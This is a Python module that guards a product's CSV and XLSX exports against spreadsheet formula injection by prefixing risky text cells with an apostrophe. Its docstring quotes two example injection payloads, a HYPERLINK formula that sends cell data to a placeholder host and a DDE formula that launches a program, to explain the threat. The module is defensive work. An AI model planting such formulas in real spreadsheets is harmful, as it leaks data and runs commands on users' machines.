"""Spreadsheet formula neutralising for every table the product writes for Excel.

A CSV or XLSX cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is read by Excel and LibreOffice as a formula: a plot name
``=HYPERLINK("http://host/?"&A1)`` sends data away, ``=cmd|' /C calc'!A0``
starts a program. Plot names come from users and service names from OSM, so
the table writers (not each column) pass every text cell through
:func:`neutralise_cells`, which prefixes such a cell with an apostrophe as
OWASP recommends ("CSV Injection"). Numbers are never touched: ``-3.5`` in a
number column stays the number -3.5.
"""

from __future__ import annotations

import pandas as pd

__all__ = ["FORMULA_STARTS", "neutralise_cells", "neutralise_text"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_text(text: str) -> str:
    """Return ``text`` with an apostrophe in front if it would start a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def neutralise_cells(table: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``table`` whose text cells cannot start a formula.

    Only cells holding a ``str`` change (in object and string columns, the
    column names too); numbers, missing values and booleans are left as they are.
    """
    out = table.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(
                lambda v: neutralise_text(v) if isinstance(v, str) else v)
    out.columns = [neutralise_text(c) if isinstance(c, str) else c for c in out.columns]
    return out
